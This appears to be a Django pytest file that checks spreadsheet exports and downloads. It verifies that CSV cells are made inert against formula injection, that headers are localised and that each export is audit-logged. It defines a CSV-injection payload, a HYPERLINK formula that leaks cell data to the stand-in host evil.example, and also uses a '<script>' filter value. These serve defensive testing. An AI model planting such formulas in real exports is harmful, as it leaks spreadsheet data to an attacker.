"""Every spreadsheet goes through one writer (an attacker's formula comes out inert, headers
in the reader's language) and every export or download leaves a line in the audit log."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile

from participation.models import AuditEvent, Membership
from participation.services.audit import audit_event
from reports.models import Report
from surveys.models import Question
from tests.checklists.factories import ChecklistUseFactory, published_checklist
from tests.participation.factories import MembershipFactory
from tests.reports.factories import ReportFactory
from tests.resourcegroup.factories import ContractFactory, TimeEntryFactory, TimesheetFactory
from tests.surveys.factories import QuestionFactory, add_responses, published_survey

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'
MARCH = datetime.date(2024, 3, 1)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def all_cells(table):
    return [cell for row in table for cell in row]


def assert_inert(table):
    cells = all_cells(table)
    assert "'" + ATTACK in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.fixture
def attacker_rep(cast):
    """A paid representative whose name is a spreadsheet formula, with an approved March."""
    rep = MembershipFactory(
        person__display_name=ATTACK,
        group=cast.resource_group,
        role=Membership.Role.PAID_REPRESENTATIVE,
        starts_on=datetime.date(2024, 1, 1),
    ).person
    ContractFactory(programme=cast.programme, person=rep, employee_number="+4712345678")
    timesheet = TimesheetFactory(
        programme=cast.programme,
        person=rep,
        month=MARCH,
        status="approved",
        decided_by=cast.coordinator,
    )
    TimeEntryFactory(timesheet=timesheet, hours=Decimal("2"))
    return rep


def test_a_formula_in_a_name_is_inert_in_the_payroll_file(login, client, cast, attacker_rep):
    login(cast.coordinator)

    table = read_csv(client.get("/p/best/resource-group/payroll/2024/3/csv/"))

    assert_inert(table)
    assert "'+4712345678" in all_cells(table)


def test_the_payroll_file_has_its_column_names_in_the_readers_language(
    login, client, cast, attacker_rep
):
    login(cast.coordinator)

    table = read_csv(
        client.get("/p/best/resource-group/payroll/2024/3/csv/", HTTP_ACCEPT_LANGUAGE="nb")
    )

    assert table[0][:4] == ["Navn", "Ansattnummer", "Måned", "Timer"]


def test_the_payroll_download_is_in_the_audit_log(login, client, cast, attacker_rep):
    login(cast.coordinator)

    client.get("/p/best/resource-group/payroll/2024/3/csv/")

    event = AuditEvent.objects.get()
    assert event.actor == cast.coordinator
    assert event.action == AuditEvent.Action.EXPORTED
    assert event.programme == cast.programme
    assert "2024-03" in event.subject


@pytest.fixture
def survey_with_attack(cast):
    survey = published_survey(cast.programme, slug="forste")
    QuestionFactory(survey=survey, position=1, kind=Question.Kind.LONG_TEXT, text="Noe mer?")
    add_responses(survey, cast.offices.gjovik, 6, {survey.questions.get(): ATTACK})
    return survey


def test_a_formula_typed_in_a_survey_answer_is_inert_in_the_export(
    login, client, cast, survey_with_attack
):
    login(cast.coordinator)

    table = read_csv(
        client.get(f"/p/best/surveys/{survey_with_attack.pk}/results/export.csv?all=1")
    )

    assert_inert(table)
    event = AuditEvent.objects.get()
    assert event.action == AuditEvent.Action.EXPORTED
    assert event.detail == "responses"
    assert event.actor == cast.coordinator


def test_a_formula_in_a_checklist_point_is_inert_in_both_figure_files(login, client, cast):
    template, version, items = published_checklist(cast.programme, points=(ATTACK, "Lytt"))
    ChecklistUseFactory(version=version, office=cast.offices.gjovik, items_covered=items)
    login(cast.coordinator)
    base = f"/p/best/checklist/{template.pk}/figures/"

    points = read_csv(client.get(base + "points.csv"))
    uses = read_csv(client.get(base + "first-meetings.csv", HTTP_ACCEPT_LANGUAGE="nb"))

    assert_inert(points)
    assert uses[0][0] == "Kontorkode"
    assert AuditEvent.objects.filter(action="exported", programme=cast.programme).count() == 2


def test_a_steering_report_download_is_in_the_audit_log(login, client, cast):
    report = ReportFactory(programme=cast.programme, status=Report.Status.DONE)
    report.file.save(report.filename, ContentFile(b"%PDF-1.7 test"))
    login(cast.leader)

    response = client.get(f"/p/best/reports/{report.pk}/download/")

    assert response.status_code == 200
    event = AuditEvent.objects.get()
    assert (event.actor, event.action) == (cast.leader, AuditEvent.Action.DOWNLOADED)


def test_a_timesheet_pdf_download_is_in_the_audit_log(login, client, cast, attacker_rep):
    timesheet = attacker_rep.timesheets.get()
    login(cast.coordinator)

    response = client.get(f"/p/best/resource-group/timesheets/{timesheet.pk}/timesheet.pdf")

    assert response.status_code == 200
    event = AuditEvent.objects.get()
    assert (event.actor, event.action) == (cast.coordinator, AuditEvent.Action.DOWNLOADED)
    assert "2024-03" in event.subject


def test_a_refused_download_leaves_no_audit_line(login, client, cast):
    other = ReportFactory(programme=cast.other_programme, status=Report.Status.DONE)
    other.file.save(other.filename, ContentFile(b"%PDF-1.7 test"))
    login(cast.coordinator)

    assert client.get(f"/p/best/reports/{other.pk}/download/").status_code == 404
    assert not AuditEvent.objects.exists()


# --- The coordinator's audit log page -------------------------------------------------------------


def _events(cast):
    audit_event(
        actor=cast.coordinator, action="exported", programme=cast.programme, subject="Older"
    )
    audit_event(actor=cast.leader, action="downloaded", programme=cast.programme, subject="Newer")
    audit_event(
        actor=cast.outsider,
        action="exported",
        programme=cast.other_programme,
        subject="Another programme's export",
    )


def test_the_coordinator_reads_their_programmes_log_newest_first(login, client, cast):
    _events(cast)
    login(cast.coordinator)

    page = client.get("/p/best/audit/").content.decode()

    assert page.index("Newer") < page.index("Older")
    assert "Another programme" not in page
    assert 'href="/p/best/audit/"' in page  # linked from the navigation


def test_the_log_filters_by_action(login, client, cast):
    _events(cast)
    login(cast.coordinator)

    page = client.get("/p/best/audit/", {"action": "exported"}).content.decode()

    assert "Older" in page
    assert "Newer" not in page


def test_an_unknown_action_filter_is_explained_not_a_crash(login, client, cast):
    _events(cast)
    login(cast.coordinator)

    response = client.get("/p/best/audit/", {"action": "<script>", "page": "x"})

    assert response.status_code == 200
    assert "error-summary" in response.content.decode()


def test_the_log_is_paginated(login, client, cast):
    for number in range(55):
        audit_event(
            actor=cast.coordinator,
            action="viewed",
            programme=cast.programme,
            subject=f"Event {number:02d}",
        )
    login(cast.coordinator)

    first = client.get("/p/best/audit/").content.decode()
    second = client.get("/p/best/audit/", {"page": 2}).content.decode()

    assert "Event 54" in first and "Event 04" not in first
    assert "Event 04" in second and "Event 54" not in second


@pytest.mark.parametrize("who", ["member", "advisor", "leader", "outsider"])
def test_only_coordinators_read_the_log(login, client, cast, who):
    _events(cast)
    login(getattr(cast, who))

    assert client.get("/p/best/audit/").status_code == 404


def test_anonymous_visitors_are_sent_to_login_for_the_log(client, cast):
    response = client.get("/p/best/audit/")

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
